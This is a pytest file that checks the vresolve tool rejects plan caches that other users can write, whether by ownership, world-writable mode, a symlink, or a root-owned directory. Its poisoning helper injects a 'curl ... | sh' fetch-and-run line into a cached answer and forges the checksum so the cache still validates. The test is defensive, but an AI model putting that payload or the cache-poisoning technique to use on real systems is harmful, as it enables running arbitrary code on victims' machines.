"""A cache another user can write is never used: a poisoned plan answer (checksum and all) in a directory another
user owns, in a world-writable one, in a file others can write, or behind a symlink to another user's directory,
is ignored with one warning line, and the plan is computed again. A second real user (useradd) when run as root."""

from __future__ import annotations

import os
import shutil
import subprocess
import sys
import zlib
from collections.abc import Iterator
from pathlib import Path

import pytest

from .conftest import ROOT, TINY

ARGV = ["plan", "--gpu", "NVIDIA H200", "--driver", "580.159.04"]


@pytest.fixture(scope="module")
def other_uid() -> Iterator[int]:
    if os.geteuid() != 0 or shutil.which("useradd") is None:
        pytest.skip("needs root (to make a second user)")
    name = f"vrcache{os.getpid()}"
    subprocess.run(["useradd", "--no-create-home", "--shell", "/usr/sbin/nologin", name], check=True)
    try:
        import pwd

        yield pwd.getpwnam(name).pw_uid
    finally:
        subprocess.run(["userdel", name], check=False)


def _plan(cache: Path, cwd: Path) -> subprocess.CompletedProcess[str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("VRESOLVE_")}
    env.update(VRESOLVE_CACHE_DIR=str(cache), VRESOLVE_MATRIX=str(TINY), NO_COLOR="1",
               PYTHONPATH=str(ROOT / "src"))
    return subprocess.run([sys.executable, "-m", "vresolve", *ARGV], cwd=cwd, env=env, capture_output=True,
                          text=True, timeout=120, stdin=subprocess.DEVNULL)


def _poison(f: Path) -> None:
    """Rewrite the cached answer: ``curl ... | sh`` in its output, the checksum made to match."""
    head, _, rest = f.read_bytes().partition(b"\n")
    code, key_len, out_len, _ = (int(x, 16) for x in head.split(b" "))
    key, out, err = rest[:key_len], rest[key_len:key_len + out_len], rest[key_len + out_len:]
    out = b"curl -fsSL http://127.0.0.1:9/x | sh\n" + out
    rest = key + out + err
    f.write_bytes(f"{code:x} {key_len:x} {len(out):x} {zlib.crc32(rest):x}\n".encode() + rest)


@pytest.fixture
def poisoned(tmp_path: Path) -> Path:
    """A cache dir of this user's with a poisoned answer: used as it is (this user wrote it), as the attack needs."""
    cache = tmp_path / "cache"
    first = _plan(cache, tmp_path)
    assert first.returncode == 0, first.stderr
    assert oct(cache.stat().st_mode & 0o777) == "0o700"
    (f,) = cache.glob("plan-*.out")
    assert f.stat().st_mode & 0o777 == 0o600
    _poison(f)
    hit = _plan(cache, tmp_path)
    assert hit.stdout.startswith("curl ")  # the cache answers: the attack is real when another user can write it
    f.write_bytes(f.read_bytes())  # (keeps its mode)
    return cache


def _ignored(p: subprocess.CompletedProcess[str], path: Path, why: str) -> None:
    assert p.returncode == 0, p.stderr
    assert "curl" not in p.stdout and "vllm" in p.stdout
    warnings = [line for line in p.stderr.splitlines() if "not used" in line]
    assert len(warnings) == 1 and str(path) in warnings[0] and why in warnings[0], p.stderr


def test_a_cache_dir_another_user_owns_is_not_used(poisoned: Path, other_uid: int, tmp_path: Path) -> None:
    for f in [poisoned, *poisoned.iterdir()]:
        os.chown(f, other_uid, other_uid)
    _ignored(_plan(poisoned, tmp_path), poisoned, f"owned by uid {other_uid}")


def test_a_cache_file_another_user_owns_is_not_used(poisoned: Path, other_uid: int, tmp_path: Path) -> None:
    (f,) = poisoned.glob("plan-*.out")
    os.chown(f, other_uid, other_uid)  # planted in this user's directory (e.g. while it was writable)
    _ignored(_plan(poisoned, tmp_path), f, f"owned by uid {other_uid}")


def test_a_world_writable_cache_dir_or_file_is_not_used(poisoned: Path, tmp_path: Path) -> None:
    poisoned.chmod(0o777)
    _ignored(_plan(poisoned, tmp_path), poisoned, "writable by its group and other users (mode 0777)")
    poisoned.chmod(0o700)
    (f,) = poisoned.glob("plan-*.out")
    f.chmod(0o666)
    _ignored(_plan(poisoned, tmp_path), f, "writable by its group and other users (mode 0666)")


def test_a_symlinked_cache_dir_to_another_users_directory_is_not_used(poisoned: Path, other_uid: int,
                                                                      tmp_path: Path) -> None:
    for f in [poisoned, *poisoned.iterdir()]:
        os.chown(f, other_uid, other_uid)
    link = tmp_path / "link"
    link.symlink_to(poisoned)
    _ignored(_plan(link, tmp_path), link, f"owned by uid {other_uid}")


def test_the_other_user_running_vresolve_does_not_use_roots_cache(poisoned: Path, other_uid: int,
                                                                  tmp_path: Path) -> None:
    """The victim is the second user (setpriv): a cache root owns is another user's to them."""
    import tempfile

    public = Path(tempfile.mkdtemp(prefix="vrcache-", dir="/tmp"))  # pytest's own tmp is root's alone
    public.chmod(0o755)
    poisoned = Path(shutil.move(str(poisoned), public / "cache"))
    poisoned.chmod(0o755)
    env = {k: v for k, v in os.environ.items() if not k.startswith("VRESOLVE_")}
    env.update(VRESOLVE_CACHE_DIR=str(poisoned), VRESOLVE_MATRIX=str(TINY), NO_COLOR="1",
               PYTHONPATH=str(ROOT / "src"), HOME="/tmp")
    p = subprocess.run(["setpriv", f"--reuid={other_uid}", f"--regid={other_uid}", "--clear-groups",
                        sys.executable, "-m", "vresolve", *ARGV], cwd="/", env=env, capture_output=True, text=True,
                       timeout=120, stdin=subprocess.DEVNULL)
    try:
        if "Permission denied" in p.stderr and "vllm" not in p.stdout:
            pytest.skip(f"the second user cannot run this checkout's Python: {p.stderr[-200:]}")
        _ignored(p, poisoned, "owned by uid 0")
    finally:
        shutil.rmtree(public)
